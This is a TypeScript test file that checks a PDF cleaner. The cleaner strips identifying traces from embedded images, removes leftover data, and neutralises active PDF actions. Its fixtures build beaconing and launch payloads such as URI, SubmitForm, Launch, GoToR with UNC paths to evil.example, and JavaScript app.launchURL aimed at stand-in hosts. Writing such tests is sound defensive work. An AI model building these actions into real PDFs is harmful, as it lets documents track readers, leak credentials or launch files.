import { describe, expect, it } from 'vitest';
import { cleanPdf } from '~/features/library/files/reader/pdf-cleaning.mjs';
import { aRawPdf, aStream, filters, type PdfParts } from './pdf';
import { tellingPictures } from './pictures';
import { CANARY, holds } from './traces';

const pictures = await tellingPictures();
const inPdf = Object.entries(pictures).filter(([name]) => /\.(?:jpeg|jp2)$/.test(name));
const names = Object.keys(filters);
const chains = [
  [],
  ...names.map((one) => [one]),
  ...names.flatMap((one) => names.filter((other) => other !== one).map((other) => [one, other])),
];
const image =
  '/Type/XObject/Subtype/Image/Width 48/Height 32/ColorSpace/DeviceRGB/BitsPerComponent 8';
const onPage = '/Resources<</XObject<</I 5 0 R>>>>';

async function cleaned(parts: PdfParts) {
  const sent = aRawPdf(parts);
  const result = await cleanPdf(sent, 1);
  return { ...result, sent, bytes: result.cleaned ?? sent };
}

describe('a picture in a PDF, however it is packed', () => {
  it.each(inPdf)('%s', async (name, { bytes: picture }) => {
    const last = name.endsWith('jp2') ? 'JPXDecode' : 'DCTDecode';
    for (const chain of chains) {
      const objects = [aStream(image, picture, chain, last)];
      const result = await cleaned({ page: onPage, objects });
      expect([chain, result.cleaning, holds(result.bytes)]).toEqual([chain, 'cleaned', false]);
      expect(result.found).not.toEqual([]);
    }
  });

  it('that is not understood leaves the decision to the sharer', async () => {
    const objects = [aStream(image, Buffer.from(CANARY), ['FlateDecode'], 'DCTDecode')];
    const result = await cleaned({ page: onPage, objects });
    expect([result.cleaning, result.found.length > 0]).toEqual(['failed', true]);
  });
});

describe('what a PDF would open or fetch', () => {
  const path = `(\\\\\\\\evil.example\\\\${CANARY}.pdf)`;
  const actions = {
    URI: `<</S/URI/URI(http://beacon.example/${CANARY})>>`,
    file: `<</S/URI/URI(file:///C:/Users/${CANARY}/a.pdf)>>`,
    GoToR: `<</S/GoToR/F${path}/D[0/Fit]>>`,
    GoToE: `<</S/GoToE/F${path}/D[0/Fit]>>`,
    Thread: `<</S/Thread/F${path}/D 0>>`,
    Launch: `<</S/Launch/F${path}>>`,
    ImportData: `<</S/ImportData/F${path}>>`,
    SubmitForm: `<</S/SubmitForm/F<</FS/URL/F(http://beacon.example/${CANARY})>>>>`,
    JavaScript: `<</S/JavaScript/JS(app.launchURL\\("${CANARY}"\\))>>`,
    Rendition: `<</S/Rendition/OP 0/JS(${CANARY})>>`,
    Movie: `<</S/Movie/T(${CANARY})>>`,
    Sound: `<</S/Sound/N(${CANARY})>>`,
    Hide: `<</S/Hide/T(${CANARY})>>`,
    unknown: `<</S/RichMediaExecute/CMD(${CANARY})>>`,
  };
  const annotation = (more: string) => ({
    page: '/Annots[5 0 R]',
    objects: [`<</Type/Annot/Rect[0 0 9 9]/Border[0 0 0]${more}>>`],
  });
  const triggers: Record<string, (action: string) => PdfParts> = {
    OpenAction: (one) => ({ catalog: `/OpenAction${one}` }),
    'OpenAction that follows': (one) => ({
      catalog: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${one}>>`,
    }),
    'OpenAction in a list': (one) => ({
      catalog: `/OpenAction<</S/Named/N/NextPage/Next[<</S/GoTo/D[3 0 R/Fit]>>${one}]>>`,
    }),
    'AA of the document': (one) => ({ catalog: `/AA<</WC${one}/DP${one}>>` }),
    'AA of a page': (one) => ({ page: `/AA<</O${one}>>` }),
    PresSteps: (one) => ({ page: `/PresSteps<</Type/NavNode/NA${one}>>` }),
    'AA of an annotation': (one) => annotation(`/Subtype/Widget/FT/Btn/AA<</PO${one}/U${one}>>`),
    'PA of a link': (one) => annotation(`/Subtype/Link/PA${one}`),
    'Next of a link': (one) =>
      annotation(`/Subtype/Link/A<</S/URI/URI(https://a.example)/Next${one}>>`),
  };

  it.each(Object.entries(triggers))('by %s: only what stays in it', async (_name, make) => {
    for (const [kind, action] of Object.entries(actions)) {
      const result = await cleaned(make(action));
      expect(holds(result.sent)).toBe(true);
      expect([kind, result.cleaning, holds(result.bytes)]).toEqual([kind, 'cleaned', false]);
    }
  });

  it('by a click: links to pages on the web, and only on links', async () => {
    const link = await cleaned(annotation(`/Subtype/Link/A${actions.URI}`));
    expect([link.cleaning, link.found, holds(link.bytes)]).toEqual(['clean', [], true]);
    const { URI: _page, ...others } = actions;
    for (const [kind, action] of Object.entries(others)) {
      const result = await cleaned(annotation(`/Subtype/Link/A${action}`));
      expect([kind, result.cleaning, holds(result.bytes)]).toEqual([kind, 'cleaned', false]);
    }
    const field = await cleaned(annotation(`/Subtype/Widget/FT/Btn/A${actions.URI}`));
    expect(holds(field.bytes)).toBe(false);
  });

  it('keeps what stays in the document', async () => {
    const open = '/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/LastPage>>>>';
    const result = await cleaned({ catalog: open });
    expect([result.cleaning, result.found]).toEqual(['clean', []]);
    const array = await cleaned({ catalog: '/OpenAction[3 0 R/Fit]' });
    expect([array.cleaning, array.found]).toEqual(['clean', []]);
  });

  it.each<[string, PdfParts]>([
    [
      'the content of a page from a URL',
      { content: `/F<</FS/URL/F(http://beacon.example/${CANARY})>>` },
    ],
    ['the content of a page from a file', { content: `/F${path}/FFilter/FlateDecode` }],
    [
      'a form that refers to another document',
      {
        page: onPage,
        objects: [
          aStream(`/Subtype/Form/BBox[0 0 1 1]/Ref<</F${path}/Page 0>>`, Buffer.from('q Q'), []),
        ],
      },
    ],
    [
      'a file specification anywhere',
      { catalog: `/Elsewhere<</Type/Filespec/F${path}/UF${path}>>` },
    ],
    ['files by name', { catalog: `/Names<</URLS<</Names[(a)(${CANARY})]>>>>` }],
  ])('%s is not fetched', async (_name, parts) => {
    const result = await cleaned(parts);
    expect(holds(result.sent)).toBe(true);
    expect([result.cleaning, holds(result.bytes)]).toEqual(['cleaned', false]);
  });
});

describe('what is left over in a PDF', () => {
  const figure = (alt: string) => ({
    catalog: `/StructTreeRoot<</Type/StructTreeRoot/K<</S/Figure/Alt(${alt})>>>>`,
  });
  it.each<[string, PdfParts]>([
    ['an object that nothing refers to', { objects: [`<</Author(${CANARY})>>`] }],
    [
      'a text that was taken out',
      { objects: [aStream('', Buffer.from(`(${CANARY})Tj`), ['FlateDecode'])] },
    ],
    ['a remark between the objects', { between: `% ${CANARY}\n` }],
    [
      'a small picture of a page as it was',
      { page: '/Thumb 5 0 R', objects: [aStream('', Buffer.from(CANARY), [])] },
    ],
    ['a path on Windows', figure(`C:\\\\Users\\\\${CANARY}\\\\x.jpg`)],
    ['a path on a Mac', figure(`/Users/${CANARY}/x.jpg`)],
    ['a path on Unix', figure(`/home/${CANARY}/x.jpg`)],
    ['a path in a network', figure(`\\\\\\\\servidor\\\\${CANARY}\\\\x.jpg`)],
  ])('%s is told and gone', async (_name, parts) => {
    const result = await cleaned(parts);
    expect(holds(result.sent)).toBe(true);
    expect([result.cleaning, result.found.length > 0, holds(result.bytes)]).toEqual([
      'cleaned',
      true,
      false,
    ]);
  });
});
